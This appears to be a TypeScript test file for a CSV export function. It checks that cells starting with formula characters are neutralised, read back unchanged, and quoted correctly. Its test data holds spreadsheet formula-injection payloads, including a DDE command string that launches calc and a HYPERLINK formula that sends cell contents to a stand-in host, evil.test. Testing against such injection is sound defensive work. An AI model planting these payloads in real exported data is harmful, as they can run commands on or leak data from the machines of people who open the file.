import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cellsOf } from '../import/csv/cells/cells.ts';
import { csvRow } from './csv-cell.ts';

const header = {
  kind: 'venue',
  width: 1,
  columns: new Map([['venue', { at: 0, heading: 'A' }]]),
  unknown: [],
} as const;

/** What `import csv` reads of a cell. */
const readBack = (cell: string): string => cellsOf<'venue'>(header, [cell], []).text('venue');

/** A row of one cell as a spreadsheet takes it apart (RFC 4180). */
const cellIn = (row: string): string => {
  const cell = row.slice(0, -2);
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
};

const formulas = [
  ...[
    '=1+1',
    "=cmd|'/C calc'!A0",
    '+1+cmd|x',
    '-2+3+cmd|x',
    '@SUM(1)',
    '=HYPERLINK("http://evil.test?"&A1)',
    '=',
    '@',
  ],
  ...[
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '  @x',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0da',
    '\uff20x',
    '+a',
    '-a',
  ],
  ...['=1,2', '="a"', '=1;2', '=1\n2'],
];

test('no cell of an exported table is a formula, and it comes back as it was', () => {
  for (const text of formulas) {
    const cell = cellIn(csvRow([text]));
    assert.equal(cell, `'${text}`);
    assert.equal(readBack(cell), text.trim(), JSON.stringify(text));
  }
});

test('numbers and telephone numbers stay as they are', () => {
  for (const text of [
    '+34 975 000 000',
    '-5',
    '-2.46',
    '12',
    '(975) 1-2',
    '1/2',
    '',
    'a=b',
    "'a'",
    "'=a".slice(2),
  ])
    assert.equal(cellIn(csvRow([text])), text);
});

test('no text ends its cell or its row early', () => {
  for (const text of ['a,b', 'a"b', '"', 'a\r\nb', 'a\nb', ',', '";=1', ' a '])
    assert.equal(cellIn(csvRow([text])), text);
  assert.equal(csvRow(['a', 'b"', 'c,d']), 'a,"b""","c,d"\r\n');
});
